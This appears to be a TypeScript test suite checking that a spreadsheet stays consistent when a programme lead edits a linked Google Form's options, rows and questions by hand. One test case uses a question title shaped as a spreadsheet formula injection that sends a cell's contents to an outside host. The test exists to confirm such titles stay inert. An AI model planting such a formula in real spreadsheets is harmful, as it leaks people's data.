// The lead changes options, rows and questions by hand: every answer stays in its column and keeps its
// meaning; what can't be told apart is asked once.
import {
  addItemByHand,
  changeListByHand,
  deleteItemByHand,
  renameItemByHand,
  renameOptionByHand,
} from '../../local/services/forms/form-editing';
import { forEveryCall, killAfter } from '../support/faults';
import { educatorRow, rowsOf } from '../support/looking';
import { ANA, LEAD, LocalProgramme, SAM, SECOND_COACH, YUSUF } from '../support/programme';
import { answersByEmail, itemTitled } from './form-by-hand';

const YEARS = 'How long have you been teaching?';
const WORK = 'When I get ready to teach, I …';
const FEEDBACK = 'How do you like to get feedback?';

const ready = LocalProgramme.ready();
const problems = (programme: LocalProgramme): unknown[] =>
  rowsOf(programme, 'Problems').map(({ cells }) => cells['Problem']);

describe('one change by hand', () => {
  it('of an option in place keeps its code, and the cell says what stands in the Form', () => {
    const programme = ready.copy();
    const years = itemTitled(programme, YEARS);
    const change = { list: 'choices', from: '5 to 9 years', to: 'Between 5 and 9' } as const;
    renameOptionByHand(programme.workspace, LEAD, programme.formId, years.id, change);
    programme.answer(SAM, { [YEARS]: 'Between 5 and 9' });
    expect(educatorRow(programme, SAM).cells['Years of teaching']).toBe('Between 5 and 9');
    expect(answersByEmail(programme)[SAM]?.years).toEqual({ code: '5-9' });
    expect(programme.ask('openCare', []).formQuestions).toEqual([]);
  });

  it('of a grid’s rows is right from the first answer on, and takes nothing from earlier ones', () => {
    const programme = ready.copy();
    programme.answer(SAM);
    const before = answersByEmail(programme)[SAM];
    const work = itemTitled(programme, WORK);
    const [ahead = '', alone = '', detail = '', steady = ''] = work.rows;
    const rows = [steady, 'with music', detail, ahead];
    changeListByHand(programme.workspace, LEAD, programme.formId, work.id, 'rows', [
      steady,
      detail,
      ahead,
      alone,
    ]);
    programme.answer(ANA, { [WORK]: ['Usually', 'Rarely', 'Sometimes', 'Usually'] });
    expect(answersByEmail(programme)[ANA]?.work).toEqual({
      steady: 'usually',
      detail: 'rarely',
      ahead: 'sometimes',
      alone: 'usually',
    });
    programme.wait(61);
    changeListByHand(programme.workspace, LEAD, programme.formId, work.id, 'rows', [
      steady,
      detail,
      ahead,
    ]);
    programme.wait(61);
    changeListByHand(programme.workspace, LEAD, programme.formId, work.id, 'rows', rows);
    programme.answer(YUSUF, { [WORK]: ['Rarely', 'Usually', 'Rarely', 'Usually'] });
    expect(answersByEmail(programme)[YUSUF]?.work).toEqual({
      steady: 'rarely',
      'with-music': 'usually',
      detail: 'rarely',
      ahead: 'usually',
    });
    expect(educatorRow(programme, YUSUF).cells['Working']).toBe(
      `Usually: with music; ${ahead} · Rarely: ${steady}; ${detail}`,
    );
    programme.wait(25 * 60);
    expect(answersByEmail(programme)[SAM]).toEqual(before);
    expect(problems(programme)).toEqual([]);
  });

  it('that takes an option out leaves old answers readable', () => {
    const programme = ready.copy();
    programme.answer(SAM);
    const years = itemTitled(programme, YEARS);
    const left = years.choices.filter((text) => text !== '5 to 9 years');
    changeListByHand(programme.workspace, LEAD, programme.formId, years.id, 'choices', left);
    programme.wait(25 * 60);
    programme.ask('beginRepair', []);
    programme.finishSetUp();
    programme.wait(61);
    expect(educatorRow(programme, SAM).cells['Years of teaching']).toBe('5 to 9 years');
    expect(programme.open(SAM).answers).toContainEqual({
      label: 'Years of teaching',
      text: '5 to 9 years',
    });
    expect(programme.ask('openCare', []).formQuestions).toEqual([]);
  });

  it('that puts an option in gives it a code of its own', () => {
    const programme = ready.copy();
    const feedback = itemTitled(programme, FEEDBACK);
    const more = ['By voice message', ...feedback.choices];
    changeListByHand(programme.workspace, LEAD, programme.formId, feedback.id, 'choices', more);
    programme.answer(SAM, { [FEEDBACK]: 'By voice message' });
    expect(answersByEmail(programme)[SAM]?.feedback).toEqual({ code: 'by-voice-message' });
    programme.wait(61);
    expect(educatorRow(programme, SAM).cells['Feedback']).toBe('By voice message');
    expect(problems(programme)).toEqual([]);
  });
});

describe('several changes at once', () => {
  const programme = ready.copy();
  const years = itemTitled(programme, YEARS);
  const german = ['Erstes Jahr', '2 bis 4', '5 bis 9', '10 und mehr', 'Andere'].slice(
    0,
    years.choices.length,
  );
  const texts = [...years.choices];
  changeListByHand(programme.workspace, LEAD, programme.formId, years.id, 'choices', german);
  programme.answer(SAM, { [YEARS]: german[1] ?? '' });

  it('are asked by the first answer already; what was typed stands in the cell, without a problem', () => {
    expect(educatorRow(programme, SAM).cells['Years of teaching']).toBe(german[1]);
    expect(programme.open(SAM).answers).toContainEqual({
      label: 'Years of teaching',
      text: german[1],
    });
    expect(problems(programme)).toEqual([]);
    const { formQuestions } = programme.ask('openCare', []);
    expect(formQuestions.map(({ text }) => text)).toEqual(german);
    const [first] = formQuestions;
    expect(first?.choices.find(({ code }) => code === first.suggested)?.text).toBe(texts[0]);
  });

  it('are settled by the next press when one dies after any call', () => {
    const [question] = programme.ask('openCare', []).formQuestions;
    const said: [string, string] = [question?.id ?? '', question?.suggested ?? ''];
    const cases = forEveryCall(
      programme,
      (copy, n) => {
        const faultHook = killAfter(n, 'writes lost');
        return { reached: !copy.press('answerFormQuestion', said, { faultHook }).ok };
      },
      (copy) => {
        const { formQuestions } = copy.ask('answerFormQuestion', said);
        expect(formQuestions.map(({ text }) => text)).toEqual(german.slice(1));
        expect(copy.workspace.heldLocks).toEqual({});
      },
    );
    expect(cases).toBeGreaterThan(3);
  });

  it('are right after the lead has said what they mean', () => {
    const question = programme.ask('openCare', []).formQuestions[1];
    programme.ask('answerFormQuestion', [question?.id ?? '', question?.suggested ?? '']);
    programme.ask('answerFormQuestion', [question?.id ?? '', question?.suggested ?? '']);
    programme.wait(61);
    const code = question?.suggested;
    expect(answersByEmail(programme)[SAM]?.years).toEqual({ code });
    expect(answersByEmail(programme)[SAM]?.unread).toBeUndefined();
    expect(rowsOf(programme, 'Educators')).toHaveLength(2);
  });

  it('are the lead’s to settle, and only as they were asked', () => {
    const [question] = programme.ask('openCare', []).formQuestions;
    const id = question?.id ?? '';
    expect(programme.refusal('answerFormQuestion', [id, 'x'], SECOND_COACH)).toBe('only-the-lead');
    expect(programme.refusal('answerFormQuestion', [id, 'not-a-choice'])).toBe('bad-request');
    expect(programme.refusal('answerFormQuestion', ['years/options/0', ''])).toBe('bad-request');
    for (const odd of [[], [null, 1], [{}, '']]) {
      expect(programme.callServer(['answerFormQuestion', odd])).toMatchObject({
        error: { code: 'bad-request' },
      });
    }
    expect(programme.ask('openCare', []).formQuestions[0]).toEqual(question);
  });
});

describe('an added question', () => {
  const programme = ready.copy();
  const { workspace, formId } = programme;
  programme.answer(SAM);
  const own = addItemByHand(workspace, LEAD, formId, 'CHECKBOX', {
    title: 'Which days are you here?',
    choices: ['Monday', 'Friday; sometimes'],
  });
  addItemByHand(workspace, LEAD, formId, 'SECTION_HEADER', { title: 'Thank you' });
  addItemByHand(workspace, LEAD, formId, 'PAGE_BREAK', { title: 'More' });
  programme.answer(ANA, { 'Which days are you here?': ['Monday', 'Friday; sometimes'] });

  it('gets a column; whoever answered before it was there is filled in', () => {
    expect(Object.keys(educatorRow(programme, ANA).cells)).not.toContain(
      'Which days are you here?',
    );
    programme.wait(61);
    const { cells } = educatorRow(programme, ANA);
    expect(cells['Which days are you here?']).toBe('Monday; Friday; sometimes');
    expect(educatorRow(programme, SAM).cells['Which days are you here?']).toBe('');
    expect(Object.keys(cells).filter((label) => /Thank you|More/.test(label))).toEqual([]);
    expect(problems(programme)).toEqual([]);
  });

  it('is shown beside the others, under the title of today; the column’s label stays', () => {
    renameItemByHand(workspace, LEAD, formId, own, 'Your days');
    programme.wait(61);
    expect(programme.open(ANA, SECOND_COACH).answers).toContainEqual({
      label: 'Your days',
      text: 'Monday; Friday; sometimes',
    });
    programme.answer(ANA, { 'Your days': ['Monday'] });
    expect(educatorRow(programme, ANA).cells['Which days are you here?']).toBe('Monday');
  });

  it('that is deleted again keeps its column and what stands there', () => {
    deleteItemByHand(workspace, LEAD, formId, own);
    programme.wait(25 * 60);
    expect(educatorRow(programme, ANA).cells['Which days are you here?']).toBe('Monday');
    expect(programme.ask('openCare', []).deletedQuestions).toEqual([]);
  });
});

it.each([
  ['a link', 'https://riverbend.example/notice'],
  ['a formula', '=IMPORTXML("https://outside.example/?"&C3)'],
  ['a date', '9/14'],
  ['what begins with an apostrophe', "'Twas a good year?"],
])('an added question whose title is %s gets its column like any other', (_, title) => {
  const programme = ready.copy();
  programme.answer(SAM);
  addItemByHand(programme.workspace, LEAD, programme.formId, 'TEXT', { title });
  programme.answer(ANA, { [title]: 'Read it.' });
  programme.wait(61);
  programme.wait(25 * 60);
  expect(educatorRow(programme, ANA).cells[title]).toBe('Read it.');
  expect(programme.ask('openCare', []).health).toEqual([]);
});
